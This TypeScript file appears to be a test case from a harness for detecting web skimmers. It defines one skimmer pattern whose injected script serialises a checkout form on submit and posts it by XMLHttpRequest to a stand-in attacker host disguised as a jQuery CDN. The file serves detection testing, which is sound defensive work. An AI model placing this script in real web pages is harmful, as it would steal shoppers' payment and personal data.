import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';

export default skimmer({
  id: 'ajax-serialised-form',
  why: 'The commonest way of all (47 of 88 samples): the whole form serialised at submit and posted with XMLHttpRequest, as jQuery does.',
  covers: ['sending: XHR', 'reading: submit', 'reading: serialised form', 'disguise: known brand'],
  base: 'direct',
  install: (site) =>
    site.inline(js`document.getElementById('checkout').addEventListener('submit', function () {
  var x = new XMLHttpRequest();
  x.open('POST', '${site.origins.evil.replace('evil', 'jquery-cdn.evil')}/ajax.php');
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8');
  x.send(new URLSearchParams(new FormData(this)).toString() + '&domain=' + location.host);
});`),
  proof: holds((arrived) => bodies(arrived)),
});
